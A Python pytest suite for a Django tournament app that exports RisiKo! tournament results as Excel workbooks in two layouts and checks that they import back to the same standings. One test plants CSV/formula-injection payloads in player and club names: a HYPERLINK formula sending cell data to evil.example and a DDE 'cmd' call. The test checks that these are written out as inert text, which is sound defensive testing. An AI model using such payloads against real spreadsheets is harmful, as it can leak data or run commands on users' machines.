"""Every tournament downloads as a workbook, in the club's layout or GestioneTorneo's, and importing that
file gives back the same standings under every formula."""
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from tournaments.models import Formula
from tables.arbitration.services import penalty_give
from tables.rounds.services import round_close
from tables.standings.selectors import formulas_compared
from tests.html import attr
from tests.factories import ClubFactory, PlayerFactory, RegistrationFactory, report, seat_round
from transfer.workbooks.model import WorkbookError
from transfer.workbooks.services import past_tournament_import, past_tournament_read


@pytest.fixture
def played(tournament, organiser):
    """Two rounds of 13 players at tables of 5, 4 and 4 (then 4, 4, 5): RisiKo!, eliminations, a place,
    a points penalty, a player without a club and one with a national ID."""
    club = ClubFactory(name="Club Lariano")
    regs = [RegistrationFactory(tournament=tournament, player__club=club if i % 3 else ClubFactory())
            for i in range(11)]
    regs.append(RegistrationFactory(tournament=tournament, player=PlayerFactory(club=None, nickname="Kamchatka")))
    regs.append(RegistrationFactory(tournament=tournament,
                                    player=PlayerFactory(national_id="IT-0013", created_by=tournament.organiser)))
    first = seat_round(tournament, [regs[:5], regs[5:9], regs[9:]])
    tables = list(first.tables.order_by("number"))
    report(tables[0], [(80, None, True), (40,), (30,), (0, 2), (0, 1)])
    report(tables[1], [(55,), (55,), (20,), (12.5,)])
    report(tables[2], [(61,), (33,), (33,), (0, 1)])
    round_close(user=organiser, rnd=first)
    regs.reverse()
    second = seat_round(tournament, [regs[:4], regs[4:8], regs[8:]])
    tables = list(second.tables.order_by("number"))
    report(tables[0], [(70,), (44,), (21,), (9,)])
    report(tables[1], [(0, 1), (90, None, True), (35,), (0, 2)])
    report(tables[2], [(48,), (48,), (30,), (22,), (0, 1)])
    seat = tables[2].seats.order_by("position").first()
    penalty_give(user=organiser, tournament=tournament, reason="x", points=7, registration=seat.registration, seat=seat)
    round_close(user=organiser, rnd=second)
    return tournament


def by_name(tournament):
    """Every formula's standings by name; a formula the results do not suit (maialino_2024 and a tie for
    first not settled by place), the engine's reason."""
    compared = formulas_compared(tournament, Formula.values)
    return {**{formula: [(row.player.full_name, row.rank, row.total) for row in standings.rows]
               for formula, standings in compared.standings.items()}, **{f: "refused" for f in compared.refused}}


def test_a_downloaded_workbook_imports_back_to_identical_standings(played, organiser, client):
    client.force_login(organiser)
    response = client.get(reverse("manage:tournament_workbook", args=[played.pk]))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    past = past_tournament_read(data=response.content, filename="back.xlsx")
    assert past.errors == []
    copy = past_tournament_import(user=organiser, past=past, name="Copia", start_date=played.start_date,
                                  settings={"formula": played.formula, "tiebreak": played.tiebreak}).tournament
    assert set(Formula.values) == set(by_name(copy))   # every formula a tournament may choose
    assert by_name(copy) == by_name(played)
    # the same people, not copies of them
    assert {r.player_id for r in copy.registrations.all()} == {r.player_id for r in played.registrations.all()}


def test_the_club_layout_has_a_sheet_a_round_and_the_standings_for_people(played, organiser, client):
    client.force_login(organiser)
    book = openpyxl.load_workbook(io.BytesIO(client.get(reverse("manage:tournament_workbook", args=[played.pk])).content))
    assert book.sheetnames == ["Turno 1", "Turno 2", "Classifica"]
    header = [c.value for c in book["Turno 1"][1]]
    assert header[:3] == ["Tavolo", "Nome", "Cognome"] and "Punti tavolo" in header and "Penalità" in header
    assert book["Turno 1"].max_row == 14


def gestione_download(played, organiser, client):
    client.force_login(organiser)
    # "IT-0013" is no number: the page before the download names it, "?ok=1" downloads
    response = client.get(reverse("manage:tournament_workbook_gestione", args=[played.pk]) + "?ok=1")
    return response.content


def test_the_gestionetorneo_download_is_laid_out_as_gestionetorneo_reads_it(played, organiser, client):
    book = openpyxl.load_workbook(io.BytesIO(gestione_download(played, organiser, client)))
    assert book.sheetnames == ["TORNEO", "Iscritti", "1° Turno", "2° Turno", "Classifica Ridotta"]
    members = book["Iscritti"]
    # the header on row 3, the members from row 4, F "Partecipa Torneo" = SI, I the national ID
    assert [c.value for c in members[3]] == ["ID", "Nome", "Cognome", "Nickname", "Club", "Partecipa Torneo",
                                             "Regione", "Data di nascita", "ID NAZIONALE"]
    rows = list(members.iter_rows(min_row=4, values_only=True))
    assert [row[0] for row in rows] == list(range(1, 14))
    assert {row[5] for row in rows} == {"SI"}
    assert "IT-0013" in [row[8] for row in rows]
    # rounds in pairs of rows from the first: the head, then a triplet (numeric ID, name and club, points) a seat
    first = book["1° Turno"]
    assert [first.cell(r, 1).value for r in (1, 3, 5)] == ["Tavolo N°1", "Tavolo N°2", "Tavolo N°3"]
    assert first.max_row == 6
    assert "A1:O1" in [str(m) for m in first.merged_cells.ranges]
    seats = [first.cell(2, c).value for c in range(1, 16)]
    assert all(isinstance(seats[i], int) for i in range(0, 15, 3))
    assert seats[1].split("\n")[0] in [f"{row[1]} {row[2]}" for row in rows]
    assert seats[2::3] == [100, 40, 30, 0, 0]   # a RisiKo! is 100, a player out 0
    assert first.column_dimensions["A"].hidden


def test_the_gestionetorneo_download_reads_back_the_same_people_and_points(played, organiser, client):
    past = past_tournament_read(data=gestione_download(played, organiser, client), filename="back.xlsx")
    assert past.errors == []
    assert past.layout == "gestionetorneo"
    read = {(rnd.number, t.number): sorted(float(s.table_points) for s in t.seats)
            for rnd in past.rounds for t in rnd.tables}
    assert read[(1, 1)] == [0, 0, 30, 40, 100]
    assert read[(2, 3)] == [0, 22, 30, 48, 48]
    # two players out at one table: their order is not in the file, asked since the formula needs it
    with pytest.raises(WorkbookError) as refused:
        past_tournament_import(user=organiser, past=past, name="Copia", start_date=played.start_date,
                               settings={"formula": "conversione150"})
    assert "1° Turno" in str(refused.value)
    copy = past_tournament_import(user=organiser, past=past, name="Copia", start_date=played.start_date,
                                  settings={"formula": "punti_tavolo"}).tournament
    assert {r.player_id for r in copy.registrations.all()} == {r.player_id for r in played.registrations.all()}


def test_the_organisers_tournament_page_links_both_downloads(played, organiser, client):
    client.force_login(organiser)
    page = client.get(reverse("manage:tournament", args=[played.pk]))
    assert attr(page, "[data-download]", "href") == [reverse("manage:tournament_workbook", args=[played.pk]),
                                                      reverse("manage:tournament_workbook_gestione", args=[played.pk])]


HOSTILE_NAME = '=HYPERLINK("https://evil.example/?x="&A1,"Rossi")'


@pytest.mark.parametrize("url", ["manage:tournament_workbook", "manage:tournament_workbook_gestione"])
def test_a_name_that_looks_like_a_formula_is_written_as_text_in_both_layouts(url, played, organiser, client):
    """A sign-up named like a formula never becomes a live formula in the organiser's workbook."""
    player = played.registrations.order_by("pk").first().player   # seated in both rounds
    player.first_name, player.last_name, player.nickname = HOSTILE_NAME, "=1+1", "=A1"
    player.save()
    player.club.name = "=cmd|' /C calc'!A0"
    player.club.save()
    client.force_login(organiser)
    content = client.get(reverse(url, args=[played.pk]) + "?ok=1").content
    book = openpyxl.load_workbook(io.BytesIO(content))   # formulas as formulas, not their values
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert HOSTILE_NAME in {cell.value for cell in cells}
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in sheets)


def gestionetorneo_reads(data):
    """The download read the way GestioneTorneo's ExcelAccess reads a workbook (getListaGiocatori and
    loadPartite): members from the fourth row of "Iscritti" with a numeric ID and a name; in each sheet
    "N° Turno", rows in pairs from the first, a table's players on its second row as five triplets (a
    numeric ID, the name, numeric points), ID 0 an empty seat. Raises as the program stops."""
    book = openpyxl.load_workbook(io.BytesIO(data), data_only=True)
    members = {}
    for row in book["Iscritti"].iter_rows(min_row=4, values_only=True):
        if row and isinstance(row[0], (int, float)) and row[1]:
            assert int(row[0]) not in members, "ID duplicato"
            members[int(row[0])] = (row[1], row[2], row[5], row[8])
    rounds = {}
    for name in book.sheetnames:
        if not name.endswith("° Turno"):
            continue
        number = int(name[:name.index("° Turno")].strip())
        tables = []
        for i, row in enumerate(book[name].iter_rows(values_only=True)):
            if i % 2 == 0:
                tables.append([])
                continue
            row = list(row) + [None] * 15
            for j in range(5):
                member = row[j * 3]
                if member is None:
                    continue
                assert isinstance(member, (int, float)), "Colonna ID con valore non numerico"
                if int(member) == 0:
                    continue
                assert isinstance(row[j * 3 + 2], (int, float)), "Colonna Punteggio con valore non numerico"
                assert int(member) in members, f"Nella lista dei giocatori non è presente quello con indice {member}"
                tables[-1].append((int(member), row[j * 3 + 2]))
        rounds[number] = [t for t in tables if t]
    return members, rounds


def test_gestionetorneo_reads_every_round_of_the_download(played, organiser, client):
    members, rounds = gestionetorneo_reads(gestione_download(played, organiser, client))
    assert len(members) == 13 and {m[2] for m in members.values()} == {"SI"}
    assert sorted(rounds) == [1, 2]
    assert [len(t) for t in rounds[1]] == [5, 4, 4] and [len(t) for t in rounds[2]] == [4, 4, 5]
    assert sorted(points for _id, points in rounds[1][0]) == [0, 0, 30, 40, 100]
